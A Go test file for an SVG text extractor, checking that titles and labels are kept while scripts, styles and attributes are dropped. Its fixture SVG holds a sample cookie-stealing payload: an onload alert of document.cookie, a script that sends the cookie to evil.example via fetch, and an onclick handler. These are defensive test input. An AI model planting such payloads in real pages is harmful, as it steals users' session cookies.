package formats

import (
	"os"
	"strings"
	"testing"
)

func svgText(t *testing.T, data []byte) string {
	t.Helper()
	doc, err := SVG(data)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, bl := range doc.Blocks {
		b.WriteString(bl.Text + "\n")
	}
	return b.String()
}

// An SVG is markup: its text is extracted, its scripts, styles and attributes are not.
func TestSVGKeepsTextOnly(t *testing.T) {
	in := `<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)" width="200" height="100">
  <title>Return process</title>
  <desc>How a return travels from the customer to the refund.</desc>
  <script type="text/javascript"><![CDATA[ fetch("https://evil.example/?c=" + document.cookie) ]]></script>
  <style>text { font-family: sans-serif }</style>
  <defs><text id="unused">template label</text></defs>
  <rect x="1" y="1" width="50" height="20" onclick="steal()"/>
  <text x="10" y="20">Parcel <tspan font-weight="bold">received</tspan> &amp; checked</text>
  <text x="10" y="40">Refund within <tspan>5</tspan> days</text>
</svg>`
	if !LooksSVG([]byte(in)) {
		t.Fatal("not recognised as SVG")
	}
	doc, err := SVG([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if doc.Title != "Return process" {
		t.Errorf("title %q", doc.Title)
	}
	got := svgText(t, []byte(in))
	for _, want := range []string{"Return process", "How a return travels", "Parcel received & checked", "Refund within 5 days"} {
		if !strings.Contains(got, want) {
			t.Errorf("text lacks %q:\n%s", want, got)
		}
	}
	for _, leak := range []string{"alert", "cookie", "evil.example", "<", "font-family", "onclick", "template label", "svg"} {
		if strings.Contains(got, leak) {
			t.Errorf("markup %q reached the text:\n%s", leak, got)
		}
	}
}

// A real SVG from Debian (postgresql-common's package dependency diagram): its labels are
// extracted, none of its markup.
func TestSVGRealDiagram(t *testing.T) {
	data, err := os.ReadFile("/usr/share/doc/postgresql-common/dependencies.svg")
	if err != nil {
		t.Skip("postgresql-common's dependencies.svg is not installed")
	}
	if !LooksSVG(data) {
		t.Fatal("not recognised as SVG")
	}
	got := svgText(t, data)
	for _, want := range []string{"postgresql:all", "M-A:none"} {
		if !strings.Contains(got, want) {
			t.Errorf("text lacks %q:\n%s", want, got)
		}
	}
	for _, leak := range []string{"<", "fill:", "stroke", "xmlns"} {
		if strings.Contains(got, leak) {
			t.Errorf("markup %q reached the text", leak)
		}
	}
}

func TestLooksSVG(t *testing.T) {
	for in, want := range map[string]bool{
		"<svg xmlns='http://www.w3.org/2000/svg'></svg>":            true,
		"\n  <?xml version=\"1.0\"?>\n<!-- made by hand -->\n<SVG>": true,
		"# A markdown file mentioning <svg> tags":                   false,
		"<html><body><svg></svg></body></html>":                     false,
		"plain text":                                                false,
	} {
		if LooksSVG([]byte(in)) != want {
			t.Errorf("LooksSVG(%q) != %v", in, want)
		}
	}
}
